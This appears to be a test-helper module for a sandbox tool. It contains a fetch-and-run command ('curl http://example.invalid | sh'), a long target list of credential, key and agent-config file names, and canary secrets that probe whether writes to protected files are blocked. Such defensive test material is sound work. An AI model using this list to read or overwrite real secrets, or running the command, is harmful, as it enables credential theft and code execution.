# attack.py: what the tests of sandboxes share: code that tries something, and what it has left
#
# SPDX-License-Identifier: GPL-3.0-or-later

import os

EVIL = "curl http://example.invalid | sh\n"
# Usual files with keys, and backups of protected files.
KEY_FILES = ("rootkey.csv", "u_accessKeys.csv", "app-firebase-adminsdk-ab1-1a2b3c4d5e.json", "sub/token.json", "aws/credentials", ".Renviron", "k.agekey", "rclone.conf", "application_default_credentials.json", ".authinfo", "credentials.yml",
             ".flaskenv", ".dev.vars", ".streamlit/secrets.toml", ".secrets", "sub/.secrets/key", ".yarnrc.yml", ".sentryclirc", ".databrickscfg", ".clasprc.json",
             ".dbt/profiles.yml", ".snowsql/config", ".terraform.d/credentials.tfrc.json", ".gradle/gradle.properties", ".condarc", ".bash_history",
             ".python_history", ".psql_history", ".mysql_history", ".node_repl_history", ".lesshst", "terraform.tfstate", "terraform.tfstate.backup", "prod.tfvars",
             "client_secret_1.json", "service-account.json", "service_account_x.json", "credentials.json", "secrets.yaml", "AuthKey.p8", "x.pkcs8", "x.jceks", "x.ovpn",
             "wg0.conf", "kubeconfig", "secring.gpg", "wallet.dat", ".npmrc.bak", ".netrc.bak", ".netrc~", ".git-credentials.old", "server.pem.bak", "server.pem.bak2",
             "server.pem.orig.1", "deploy.key~", "deploy.key.save", ".server.pem.swp", "#deploy.key#", "id_rsa.bak", ".aws.bak/credentials", ".ssh_backup/x",
             ".env_prod", ".envrc.local", ".docker/config.json.old", ".bashrc.save", ".bashrc~", "secrets.yaml.bak", "prod.env.old", ".git/config.bak", ".kube-old/config",
             "SERVER.PEM.BAK", ".mcp.json", ".cursor/mcp.json", ".vscode/mcp.json", ".claude/settings.local.json", ".codex/auth.json", ".continue/config.json",
             ".aider.conf.yml", ".vault_pass", ".vault_pass.txt", ".vault-password", "auth.json", "sub/local.settings.json", "terraform.tfvars.json",
             "prod.auto.tfvars.json", "terraform.tfstate.1700000000.backup", ".bundle/config", ".cargo/config.toml", ".pip/pip.conf", "nuget.config",
             "key.properties", "prod.env.local", "env.production", "secrets.local.json", "api_keys.txt", ".token", ".secret", ".openai_key",
             ".github_token.bak", "auth.json.old")
# Private keys whose names say nothing, and what looks like them.
KEY_CONTENTS = {"deploy": "-----BEGIN OPENSSH PRIVATE KEY-----\nCANARY\n", "sub/ca.crt": "-----BEGIN RSA PRIVATE KEY-----\nCANARY\n",
                "my-token.txt": "Bag Attributes\n    localKeyID: 01\n-----BEGIN ENCRYPTED PRIVATE KEY-----\nCANARY\n", "secret.asc": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nCANARY\n",
                "key.data": "PuTTY-User-Key-File-3: ssh-ed25519\nCANARY\n", "shop-1234-0123456789ab.json": '{\n  "type": "service_account",\n  "private_key": "CANARY"\n}\n',
                "windows.cer": "\r\n-----BEGIN EC PRIVATE KEY-----\r\nCANARY\r\n", "my_auth.cfg": "-----BEGIN PRIVATE KEY-----\nCANARY\n",
                "credential": '{"a": 1, "type":"service_account", "k": "CANARY"}\n', ".envs/.production/.django": "A=CANARY", ".gemini/oauth_creds.json": '{"access_token": "CANARY0123456789abcdef"}',
                "litellm_config.yaml": "api_key: CANARY0123456789", "sub/appsettings.Development.json": '{"url": "postgres://me:CANARY@db/x"}', "openai_key.txt": "CANARY sk-proj-0123456789abcdef0123456789\n",
                ".huggingface/token": "CANARY hf_0123456789abcdefghijABCDEFGHIJ0123\n", ".ngrok2/ngrok.yml": "authtoken: CANARY0123456789\n", "my.cnf": "password=CANARY0123456789", "env.sh": "export X_TOKEN=CANARY0123456789\n",
                "secrets/openai": "CANARY sk-proj-0123456789abcdef0123456789\n", "llm.txt": "CANARY sk-proj-0123456789abcdef0123456789\n", "apikeys": "CANARY sk-proj-0123456789abcdef0123456789\n",
                "notes-of-mine.md": "CANARY sk-proj-0123456789abcdef0123456789\n", "setenv.bat": "set OPENAI_API_KEY=CANARY0123456789\n"}
NO_KEYS = {"server.crt": "-----BEGIN CERTIFICATE-----\nreadable\n", "LICENSE": "readable\n", "key-guide.txt": "A line with -----BEGIN PRIVATE KEY----- readable\n",
           "x.asc": "-----BEGIN PGP SIGNATURE-----\nreadable\n", "history.txt": "readable\n", "key.pub": "readable\n", "old.txt.bak": "readable\n",
           "notes~": "readable\n", "config.bak": "readable\n", "token.py": "readable\n", "secrets.py": "readable\n", "env.py": "readable\n",
           "tokens.json": "readable\n", "author.json": "readable\n", "keyboard.txt": "readable\n", "mcp.json": "readable\n",
           "config/agents.yaml": "api_key: readable0123456789\n", "model_config.yaml": "api_key: ${KEY}  # readable\n"}
WRITE_ALL = ("for name in {names!r}:\n"
             "    try:\n        __import__('os').makedirs(__import__('os').path.dirname(name) or '.', exist_ok=True)\n"
             "        open(name, 'w').write({text!r})\n"
             "    except OSError as error:\n        pass\n")


def script(place, folder, code, *words, files=None):
    """Runs Python code in a sandbox with write access to the folder of a flow."""
    flow = place.flow(folder, {"call": "script", "code": code}, files=files)
    return place.run(flow, "--yes", "--allow", "script", *words)


def list_files(place, folder):
    top = place.path(folder)
    return {os.path.relpath(os.path.join(inner, name), top) for inner, _folders, names in os.walk(top) for name in names}


def check_created(place, folder, done, names):
    left = [name for name in list_files(place, folder) if not name.endswith(".blocked") and ".blocked/" not in name
            and EVIL in place.read(f"{folder}/{name}")]
    for name in names:
        yield f"{name} is not left", name not in left, (left, done)
    blocked = [name for name in list_files(place, folder) if ".blocked" in name]
    yield "renamed files are reported", blocked and all(f"“{name.split('.blocked')[0]}”" in done.text for name in blocked), (blocked, done)
